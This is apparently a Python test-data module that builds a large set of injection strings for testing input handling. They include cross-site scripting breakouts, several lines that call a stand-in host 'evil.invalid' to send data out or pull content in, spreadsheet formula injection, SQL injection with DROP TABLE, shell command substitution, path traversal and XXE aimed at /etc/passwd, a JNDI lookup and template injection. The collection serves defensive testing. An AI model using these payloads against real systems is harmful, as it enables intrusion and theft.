"""Three hundred texts that have broken software, made from where they land and what they then do."""

_BREAKS_OUT = (
    "{}", '">{}', "'>{}", "-->{}", "</title>{}", "</textarea>{}", "</script>{}", "</style>{}", "]]>{}",
    "</select>{}", "</svg>{}", "</template>{}", "</noscript>{}", "<!--{}-->",
)  # fmt: skip
"""Out of text, an attribute, a comment, or an element whose content is not markup."""
_THEN = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{background:url(//evil.invalid/)}</style>",
    "<link rel=stylesheet href=//evil.invalid/x>",
    "<base href=//evil.invalid/>",
    "<meta http-equiv=refresh content='0;url=//evil.invalid/'>",
    "<object data=//evil.invalid/></object>",
    "<form action=//evil.invalid/><button>Save</button></form>",
    "<a href=javascript:alert(1) id=x>Save</a>",
    "<b style=position:fixed;inset:0;background:red>",
)
_IN_ATTRIBUTES = (
    '" onmouseover=alert(1) autofocus onfocus=alert(1) x="', "' onfocus=alert(1) autofocus '",
    "x onload=alert(1)", '" style="position:fixed;inset:0', '"hx-on::load="alert(1)', '" hx-get="//evil.invalid/" x="',
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "\x01javascript:alert(1)",
    "javascript://halden.no/%0aalert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "//evil.invalid/", "https://evil.invalid\\@halden.no/", "&#106;avascript:alert(1)", "blob:https://evil.invalid/x",
    "https://halden.no/?q=<script>alert(1)</script>#<img src=x onerror=alert(1)>",
)  # fmt: skip
_IN_SCRIPTS = (
    "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`", "\u2028alert(1)//",
    "</script><script>alert(1)</script>", "-alert(1)-", "{{constructor.constructor('alert(1)')()}}",
    '{"__proto__":{"x":1}}', "__proto__", "constructor",
)  # fmt: skip
_IN_TEMPLATES = (
    "{{ settings.SECRET_KEY }}", "{% debug %}", "{% load i18n %}", "{% include '/etc/passwd' %}", "{{ request.user }}",
    "{#", "{% verbatim %}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "*{7*7}",
)  # fmt: skip
_TEXT_TRICKS = (
    "\u202egpj.exe", "\u2066abc\u2069", "\u200bzero\u200bwidth", "\ufeffmark", "\uff1cscript\uff1e",
    "\ufe64script\ufe65", "e\u0301" * 40, "Z\u0351\u036b\u0343\u036a\u0302" * 10,
    "\U0001f468\u200d\U0001f469",
    "\u0130\u0131\u017f\ufb01", "\x00NUL", "nul\x00in<script>alert(1)</script>", "\x1b[31mred",
    "\x08\x7f", "\ufffd\ufffe",
    "\u2028\u2029", "line\r\nSet-Cookie: a=b", "%0d%0aX-Header: y", "\u00a0", "\u3000", "\U000e0041",
)  # fmt: skip
_LONG = (
    "A" * 10_000, "<" * 5_000, "\u00e9" * 5_000, "a " * 5_000, "\n" * 1_000, "&amp;" * 2_000, "<b>" * 2_000,
    "\U0001f4a9" * 2_000, "\"'" * 2_000,
)  # fmt: skip
FORMULAS = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("//evil.invalid/","Save")', "=IMPORTXML(\"//evil.invalid/\",\"//a\")", "\uff1d1+1",
    "\uff0b1+1", ";=1+1",
    '",=1+1', "+cmd|' /C calc'!A0",
)  # fmt: skip
_FOR_DATABASES = (
    "' OR 1=1 --", "'; DROP TABLE events; --", "1; SELECT pg_sleep(9)", "') UNION SELECT 1 --", "%' ESCAPE '\\",
    "_%", "\\'", "$$", "$as_of", "$unit", "/*", "\"; DROP TABLE people_person; --", "{name: String}", ":x", "?1",
)  # fmt: skip
_FOR_FORMATTERS = (
    "%s%s%n%n", "%(name)s", "{0.__class__.__mro__}", "{}", "{name!r}", "%x%x%x", "$(id)", "`id`", "| id; id",
    "../../../../etc/passwd", "..\\..\\boot.ini", "${jndi:ldap://evil.invalid/}", "NaN", "Infinity", "-0", "1e309",
    "null", "undefined", "True", "[object Object]", "0x1F", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
)  # fmt: skip

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys(
        [out.format(then) for out in _BREAKS_OUT for then in _THEN]
        + [*_IN_ATTRIBUTES, *_ADDRESSES, *_IN_SCRIPTS, *_IN_TEMPLATES, *_TEXT_TRICKS, *_LONG, *FORMULAS]
        + [*_FOR_DATABASES, *_FOR_FORMATTERS]
    )
)
